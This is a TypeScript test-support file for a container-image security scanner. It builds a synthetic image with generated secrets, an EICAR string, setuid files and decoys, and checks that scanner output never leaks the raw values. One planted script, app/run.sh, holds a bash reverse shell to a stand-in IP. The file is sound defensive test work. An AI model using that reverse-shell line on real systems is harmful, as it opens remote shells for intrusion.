/**
 * Test support (no tests here): an image with secrets, threats and decoys planted in it, all
 * generated when called (no key, token or EICAR string is ever committed), and the raw values
 * that must never appear in any output.
 */
import { createHash } from 'node:crypto';
import { makeZip } from '../../catalog/analyzers/jar/zip-writer.test.js';
import { AWS_EXAMPLE_KEY_ID } from '../../content/secrets/noise.js';
import { plantedValues, rsaPrivateKeyPem } from '../../content/secrets/testing/tokens.js';
import { eicarString } from '../../content/threats/eicar.js';
import type { ImageSpec } from '../../test-support/oci-image.js';
import { DEBIAN_12_OS_RELEASE, dpkgStanza } from './images.js';

export const sha256Hex = (s: string | Buffer) => createHash('sha256').update(s).digest('hex');

export interface PlantedImage {
  spec: ImageSpec;
  /** Every raw secret value planted anywhere. */
  raw: string[];
  eicar: string;
  appKey: string;
  values: ReturnType<typeof plantedValues>;
  envToken: string;
  argToken: string;
}

export function plantedImage(): PlantedImage {
  const v = plantedValues();
  const testKey = rsaPrivateKeyPem();
  const appKey = rsaPrivateKeyPem();
  const envToken = plantedValues().github;
  const argToken = plantedValues().npm;
  const eicar = eicarString();
  const jar = makeZip([
    { name: 'META-INF/MANIFEST.MF', data: 'Manifest-Version: 1.0\n' },
    { name: 'samples/eicar.com', data: eicar, store: true },
  ]);
  /** Every raw value planted anywhere: none may appear in a result. */
  const RAW = [
    v.awsKeyId,
    v.awsSecret,
    v.github,
    v.stripe,
    v.generic,
    envToken,
    argToken,
    appKey.split('\n')[1]!,
  ];

  const spec: ImageSpec = {
    layers: [
      {
        createdBy: '/bin/sh -c #(nop) ADD file:4b0e3a in / ',
        files: [
          { path: 'etc/os-release', content: DEBIAN_12_OS_RELEASE },
          { path: 'var/lib/dpkg/status', content: dpkgStanza('libfoo-dev', '1.0-1') },
          {
            path: 'var/lib/dpkg/info/libfoo-dev.list',
            content: '/.\n/usr/share/doc/libfoo-dev/examples/test-key.pem\n',
          },
          { path: 'usr/share/doc/libfoo-dev/examples/test-key.pem', content: testKey },
          { path: 'usr/bin/passwd', content: 'ELF', mode: 0o4755 },
        ],
      },
      {
        createdBy: 'COPY app/ /app/ # buildkit',
        files: [
          {
            path: 'app/.env',
            content: `AWS_ACCESS_KEY_ID=${v.awsKeyId}\nAWS_SECRET_ACCESS_KEY=${v.awsSecret}\n`,
          },
          { path: 'app/config.json', content: `{"deploy": {"token": "${v.github}"}}\n` },
          { path: 'app/stripe.txt', content: `charge with ${v.stripe}\n` },
          { path: 'app/db.conf', content: `user=app\npassword=${v.generic}\n` },
          { path: 'app/id_rsa', content: appKey },
          { path: 'app/docs/example.env', content: `AWS_ACCESS_KEY_ID=${AWS_EXAMPLE_KEY_ID}\n` },
          { path: 'app/template.env', content: `API_TOKEN=${'$'}{API_TOKEN}\npassword=changeme\n` },
          { path: 'app/lib/tools.jar', content: jar },
          { path: 'app/eicar.txt', content: `${eicar}\r\n` },
          { path: 'app/run.sh', content: '#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n' },
          {
            path: 'app/health.sh',
            content:
              '#!/bin/bash\nexec 3<>/dev/tcp/127.0.0.1/8080\necho -e "GET /health HTTP/1.0\\r\\n" >&3\ncat <&3\n',
          },
          { path: 'usr/local/bin/helper', content: '#!/bin/sh\n', mode: 0o4755 },
        ],
      },
      {
        createdBy: 'RUN /bin/sh -c rm /app/stripe.txt && echo ok > /app/db.conf # buildkit',
        files: [
          { path: 'app/.wh.stripe.txt', content: '' },
          { path: 'app/db.conf', content: 'user=app\n' },
        ],
      },
    ],
    emptyHistory: [
      { beforeLayer: 1, createdBy: '/bin/sh -c #(nop)  CMD ["bash"]' },
      { beforeLayer: 2, createdBy: `|1 NPM_TOKEN=${argToken} /bin/sh -c npm ci # buildkit` },
    ],
    config: {
      Env: ['PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin', `GITHUB_TOKEN=${envToken}`],
    },
  };
  return { spec, raw: RAW, eicar, appKey, values: v, envToken, argToken };
}
